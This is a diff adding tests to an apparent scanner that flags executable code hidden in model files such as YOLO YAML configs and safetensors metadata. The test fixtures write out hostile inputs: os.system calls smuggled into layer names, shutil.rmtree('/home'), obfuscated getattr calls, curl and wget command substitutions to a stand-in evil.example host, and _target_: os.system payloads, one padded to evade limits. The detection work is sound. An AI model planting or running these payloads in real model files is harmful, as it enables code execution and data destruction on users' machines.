@@ -98,15 +98,39 @@ test('YAML: keys and values are found in every style', async () => {
     assert.deepEqual(await rulesOf('config.yaml', utf8(text)), ['remote-code'], text);
 });
 
+test('YAML: layers that a loader evaluates are names', async () => {
+  const layers = (name: string) =>
+    rulesOf(
+      'yolo.yaml',
+      utf8(`nc: 80\nbackbone:\n  - [-1, 1, ${name}, [64, 3, 2]]\nhead:\n  - [-1, 1, Detect, [nc]]\n`),
+    );
+  assert.deepEqual(await layers(`"__import__('os').system('id')"`), ['yaml-code']);
+  assert.deepEqual(await layers('Conv'), []);
+});
+
 test('metadata: markup and Python that fetch, delete or import', async () => {
   for (const text of [
     "<meta http-equiv=refresh content='0;url=data:text/html;base64,PHNjcmlwdD4='>",
     "import shutil; shutil.rmtree('/home')",
     "importlib.import_module('os').remove('a')",
     "getattr(os, 'sys' + 'tem')('id')",
+    '$(curl evil.example)',
+    '`wget evil.example`',
   ])
     assert.deepEqual(await rulesOf('x.safetensors', safetensorsFile({ __metadata__: { text } }, 0)), [
       'metadata-code',
+    ]);
+});
+
+test('JSON, YAML and literals of Python inside metadata', async () => {
+  for (const text of [
+    JSON.stringify({ inner: JSON.stringify({ _target_: 'os.system' }) }),
+    "{'model': {'_target_': 'os.system'}}",
+    'model:\n  _target_: os.system\n',
+    `{'pad': '${'x'.repeat(10_000)}', '_target_': 'os.system'}`,
+  ])
+    assert.deepEqual(await rulesOf('x.safetensors', safetensorsFile({ __metadata__: { text } }, 0)), [
+      'remote-code',
     ]);
 });
 
